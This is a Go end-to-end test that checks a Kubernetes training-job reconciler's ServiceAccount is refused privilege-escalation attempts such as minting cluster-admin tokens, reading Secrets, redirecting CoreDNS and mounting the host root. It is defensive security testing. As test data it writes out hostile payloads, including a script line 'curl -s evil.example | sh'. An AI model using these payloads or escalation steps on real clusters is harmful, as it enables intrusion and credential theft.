//go:build e2e

package reconcile

import (
	"context"
	"fmt"
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"

	"github.com/trainfn/trainfn/render/handoff"
	"github.com/trainfn/trainfn/test/cluster"
)

// TestReconcilerReachesOnlyTrainfnObjects installs the reconciler's chart
// as a user would, with its defaults (every namespace watched) and with
// watchNamespaces, and acts as its ServiceAccount, with a token the API
// server issued: what a reviewer would try with the reconciler's identity
// is refused, by RBAC or by the chart's admission policy; what the
// reconciler does for a rendered job is not (the rest of the suite runs
// every reconciler so, watching its test's namespace; here the defaults'
// cluster-wide rights do that work too).
func TestReconcilerReachesOnlyTrainfnObjects(t *testing.T) {
	t.Parallel()
	for _, scope := range []string{"defaults", "watchNamespaces"} {
		t.Run(scope, func(t *testing.T) {
			t.Parallel()
			ns := kube.Namespace(t)
			var args []string
			if scope == "watchNamespaces" {
				args = []string{"--set", "watchNamespaces={" + ns + "}"}
			}
			in := install(t, "p-"+ns, ns, args...)
			as, err := kubernetes.NewForConfig(in.Config)
			require.NoError(t, err)
			j := deploy(t, ns, mpiJob{Name: "mine", Elastic: "1:3", Workers: 2, Slots: 1, CleanPodPolicy: "Running"})
			v := victims(t, ns)
			for _, a := range attempts(ns, j, v) {
				t.Run(a.name, func(t *testing.T) {
					ctx, cancel := timeout()
					defer cancel()
					err := a.do(ctx, as)
					require.Error(t, err, "the reconciler's ServiceAccount could %s", a.name)
					assert.True(t, apierrors.IsForbidden(err), "refused, but not by RBAC or the admission policy: %v", err)
					t.Logf("refused: %v", err)
				})
			}
			if scope == "defaults" {
				ownWork(t, in, j)
			}
		})
	}
}

// victimObjects are what a compromised reconciler would go for, made by
// the administrator: a ServiceAccount bound to cluster-admin, a user's
// Secret, kube-system's CoreDNS configuration, another team's
// StatefulSet and pod.
type victimObjects struct {
	admin              string // kube-system ServiceAccount bound to cluster-admin
	secret             string // in the test's namespace
	statefulSet, pod   string // not trainfn's, in the test's namespace
	coreDNS, coreDNSNS string
}

func victims(t *testing.T, ns string) victimObjects {
	t.Helper()
	ctx, cancel := timeout()
	defer cancel()
	v := victimObjects{admin: "admin-" + ns, secret: "user-secret", statefulSet: "theirs", pod: "bystander",
		coreDNS: "coredns", coreDNSNS: metav1.NamespaceSystem}
	c := kube.Client
	_, err := c.CoreV1().ServiceAccounts(metav1.NamespaceSystem).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: v.admin}}, metav1.CreateOptions{})
	require.NoError(t, err)
	t.Cleanup(func() {
		_ = c.CoreV1().ServiceAccounts(metav1.NamespaceSystem).Delete(context.Background(), v.admin, metav1.DeleteOptions{})
		_ = c.RbacV1().ClusterRoleBindings().Delete(context.Background(), v.admin, metav1.DeleteOptions{})
	})
	_, err = c.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: v.admin},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: metav1.NamespaceSystem, Name: v.admin}},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.CoreV1().Secrets(ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: v.secret}, StringData: map[string]string{"password": "hunter2"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.CoreV1().ConfigMaps(v.coreDNSNS).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: v.coreDNS}, Data: map[string]string{"Corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"}}, metav1.CreateOptions{})
	if !apierrors.IsAlreadyExists(err) {
		require.NoError(t, err)
	}
	labels := map[string]string{"app": "theirs"}
	template := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.example/app:1"}}}}
	_, err = c.AppsV1().StatefulSets(ns).Create(ctx, &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: v.statefulSet, Labels: labels},
		Spec:       appsv1.StatefulSetSpec{Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: template},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.CoreV1().Pods(ns).Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: v.pod, Labels: map[string]string{"app": v.pod}}, Spec: template.Spec}, metav1.CreateOptions{})
	require.NoError(t, err)
	return v
}

// attempt is one write or read the reconciler's ServiceAccount must be
// refused.
type attempt struct {
	name string
	do   func(ctx context.Context, as kubernetes.Interface) error
}

func attempts(ns string, j *job, v victimObjects) []attempt {
	patch := func(do func(ctx context.Context, as kubernetes.Interface, body []byte) error, body string) func(context.Context, kubernetes.Interface) error {
		return func(ctx context.Context, as kubernetes.Interface) error { return do(ctx, as, []byte(body)) }
	}
	merge, strategic := types.MergePatchType, types.StrategicMergePatchType
	opts := metav1.PatchOptions{}
	// A host's root file system, mounted into a template: what a pod of
	// the namespace's ServiceAccount could then read.
	hostRoot := `{"spec":{"template":{"spec":{"serviceAccountName":"default","volumes":[{"name":"root","hostPath":{"path":"/"}}]}}}}`
	tokenSecret := func(namespace string) func(context.Context, kubernetes.Interface) error {
		return func(ctx context.Context, as kubernetes.Interface) error {
			_, err := as.CoreV1().Secrets(namespace).Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "token-" + ns, Annotations: map[string]string{corev1.ServiceAccountNameKey: v.admin}},
				Type:       corev1.SecretTypeServiceAccountToken,
			}, metav1.CreateOptions{})
			return err
		}
	}
	generated := handoff.JobLabels(j.name)
	generated[handoff.GeneratedSSH] = "ssh"
	// sshSecret is the job's SSH Secret as the reconciler makes it, but
	// for what change does.
	sshSecret := func(change func(*corev1.Secret)) func(context.Context, kubernetes.Interface) error {
		return func(ctx context.Context, as kubernetes.Interface) error {
			s := &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: j.name + "-ssh", Labels: maps.Clone(generated), OwnerReferences: []metav1.OwnerReference{{
					APIVersion: "batch/v1", Kind: "Job", Name: handoff.LauncherName(j.name), UID: "00000000-0000-0000-0000-000000000001",
				}}},
				Type: corev1.SecretTypeSSHAuth, Immutable: new(true),
				Data: map[string][]byte{corev1.SSHAuthPrivateKey: []byte("key")},
			}
			change(s)
			_, err := as.CoreV1().Secrets(ns).Create(ctx, s, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	return []attempt{
		{"mint a token Secret for a cluster-admin ServiceAccount in kube-system", tokenSecret(metav1.NamespaceSystem)},
		{"mint a token Secret in a watched namespace", tokenSecret(ns)},
		{"read a Secret it did not make", func(ctx context.Context, as kubernetes.Interface) error {
			_, err := as.CoreV1().Secrets(ns).Get(ctx, v.secret, metav1.GetOptions{})
			return err
		}},
		{"list Secrets", func(ctx context.Context, as kubernetes.Interface) error {
			_, err := as.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
			return err
		}},
		{"create an SSH Secret named for no job of its labels", sshSecret(func(s *corev1.Secret) { s.Name = "stolen-ssh" })},
		{"create an SSH Secret without trainfn's labels", sshSecret(func(s *corev1.Secret) { s.Labels = nil })},
		{"create an SSH Secret that nothing owns, which would outlive the job", sshSecret(func(s *corev1.Secret) { s.OwnerReferences = nil })},
		{"create an SSH Secret with an annotation, for a replicator to copy", sshSecret(func(s *corev1.Secret) {
			s.Annotations = map[string]string{"replicator.v1.mittwald.de/replicate-to": "*"}
		})},
		{"create an SSH Secret holding more than a key", sshSecret(func(s *corev1.Secret) { s.Data["token"] = []byte("x") })},
		{"patch kube-system/coredns", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.CoreV1().ConfigMaps(v.coreDNSNS).Patch(ctx, v.coreDNS, merge, b, opts)
			return err
		}, `{"data":{"Corefile":".:53 {\n    forward . 203.0.113.1\n}\n"}}`)},
		{"patch another key of the job's own ConfigMap", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.CoreV1().ConfigMaps(ns).Patch(ctx, handoff.ConfigMapName(j.name), merge, b, opts)
			return err
		}, `{"data":{"hostfile":"evil.example slots=1\n"}}`)},
		{"write a discovery script that runs a command in the launcher", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.CoreV1().ConfigMaps(ns).Patch(ctx, handoff.ConfigMapName(j.name), merge, b, opts)
			return err
		}, `{"data":{"discover_hosts.sh":"#!/bin/sh\ncurl -s evil.example | sh\necho mine-worker-0.mine\n"}}`)},
		{"scale the job's workers past its maximum", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.AppsV1().StatefulSets(ns).Patch(ctx, handoff.WorkersName(j.name), merge, b, opts)
			return err
		}, `{"spec":{"replicas":100}}`)},
		{"rewrite another StatefulSet's template", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.AppsV1().StatefulSets(ns).Patch(ctx, v.statefulSet, strategic, b, opts)
			return err
		}, hostRoot)},
		{"rewrite the job's own StatefulSet's template", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.AppsV1().StatefulSets(ns).Patch(ctx, handoff.WorkersName(j.name), strategic, b, opts)
			return err
		}, hostRoot)},
		{"change another pod's image", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.CoreV1().Pods(ns).Patch(ctx, v.pod, strategic, b, opts)
			return err
		}, `{"spec":{"containers":[{"name":"app","image":"registry.example/evil:1"}]}}`)},
		{"change the image of the job's own launcher", func(ctx context.Context, as kubernetes.Interface) error {
			pods, err := kube.Client.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: handoff.JobRoleLabel + "=" + handoff.RoleLauncher})
			if err != nil || len(pods.Items) == 0 {
				return fmt.Errorf("no launcher pod to try on: %v", err)
			}
			body := `{"spec":{"containers":[{"name":"launcher","image":"registry.example/evil:1"}]}}`
			_, err = as.CoreV1().Pods(ns).Patch(ctx, pods.Items[0].Name, strategic, []byte(body), opts)
			return err
		}},
		{"give another pod trainfn's labels", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.CoreV1().Pods(ns).Patch(ctx, v.pod, merge, b, opts)
			return err
		}, fmt.Sprintf(`{"metadata":{"labels":{%q:%q,%q:%q}}}`, handoff.OperatorNameLabel, handoff.Operator, handoff.JobNameLabel, j.name))},
		{"delete another pod", func(ctx context.Context, as kubernetes.Interface) error {
			return as.CoreV1().Pods(ns).Delete(ctx, v.pod, metav1.DeleteOptions{})
		}},
		{"create a pod", func(ctx context.Context, as kubernetes.Interface) error {
			_, err := as.CoreV1().Pods(ns).Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "mine"},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "registry.example/evil:1"}}}}, metav1.CreateOptions{})
			return err
		}},
		{"cut the deadline of the job's launcher Job", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.BatchV1().Jobs(ns).Patch(ctx, handoff.LauncherName(j.name), merge, b, opts)
			return err
		}, `{"spec":{"activeDeadlineSeconds":1}}`)},
		{"relabel the job's launcher Job", patch(func(ctx context.Context, as kubernetes.Interface, b []byte) error {
			_, err := as.BatchV1().Jobs(ns).Patch(ctx, handoff.LauncherName(j.name), merge, b, opts)
			return err
		}, `{"metadata":{"labels":{"training.kubeflow.org/job-name":"other"}}}`)},
		{"resume a Job its user suspended", func(ctx context.Context, as kubernetes.Interface) error {
			// Suspended and resumed by its user around the attempt, so
			// that the job runs on for the work that follows.
			jobs, launcher := kube.Client.BatchV1().Jobs(ns), handoff.LauncherName(j.name)
			if _, err := jobs.Patch(ctx, launcher, merge, []byte(`{"spec":{"suspend":true}}`), opts); err != nil {
				return fmt.Errorf("suspending the launcher as its user: %w", err)
			}
			defer func() {
				_, _ = jobs.Patch(context.Background(), launcher, merge, []byte(`{"spec":{"suspend":false}}`), opts)
			}()
			_, err := as.BatchV1().Jobs(ns).Patch(ctx, launcher, merge, []byte(`{"spec":{"suspend":false}}`), opts)
			return err
		}},
		{"let a worker of the job tolerate every taint", func(ctx context.Context, as kubernetes.Interface) error {
			worker := handoff.WorkerHostname(j.name, 0)
			if err := wait.PollUntilContextCancel(ctx, 100*time.Millisecond, true, func(ctx context.Context) (bool, error) {
				_, err := kube.Client.CoreV1().Pods(ns).Get(ctx, worker, metav1.GetOptions{})
				return err == nil, nil
			}); err != nil {
				return fmt.Errorf("no pod %s to try on: %w", worker, err)
			}
			add := `[{"op":"add","path":"/spec/tolerations/-","value":{"operator":"Exists"}}]`
			_, err := as.CoreV1().Pods(ns).Patch(ctx, worker, types.JSONPatchType, []byte(add), opts)
			return err
		}},
		{"delete the job's ConfigMap", func(ctx context.Context, as kubernetes.Interface) error {
			return as.CoreV1().ConfigMaps(ns).Delete(ctx, handoff.ConfigMapName(j.name), metav1.DeleteOptions{})
		}},
		{"run a command in a worker of the job", func(ctx context.Context, as kubernetes.Interface) error {
			return as.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name(handoff.WorkerHostname(j.name, 0)).
				SubResource("exec").Param("command", "true").Param("stdout", "true").Do(ctx).Error()
		}},
		{"bind itself a role", func(ctx context.Context, as kubernetes.Interface) error {
			_, err := as.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "more"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "admin"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: "default"}},
			}, metav1.CreateOptions{})
			return err
		}},
	}
}

// ownWork runs the reconciler as the chart's ServiceAccount on the
// rendered job, watching its namespace only so as to leave other tests'
// jobs alone: it makes the job's SSH Secret, starts its workers, writes
// its discovery script, and stops the workers when the launcher ends.
func ownWork(t *testing.T, in *cluster.ReconcilerInstall, j *job) {
	t.Helper()
	r := startReconcilerAs(t, in, j.ns)
	j.waitReplicas(t, 2)
	j.waitDiscovery(t, 0, 1)
	ctx, cancel := timeout()
	defer cancel()
	secret, err := kube.Client.CoreV1().Secrets(j.ns).Get(ctx, handoff.SSHSecretName(j.name), metav1.GetOptions{})
	require.NoError(t, err, "the reconciler made no SSH Secret")
	assert.Equal(t, corev1.SecretTypeSSHAuth, secret.Type)
	finish(t, j.ns, j.waitRunning(t, handoff.RoleLauncher, 1)[0].Name, 0)
	j.waitReplicas(t, 0)
	assert.False(t, strings.Contains(r.stderr.String(), "denied request"), "the admission policy refused the reconciler its own work:\n%s", r.stderr.String())
}
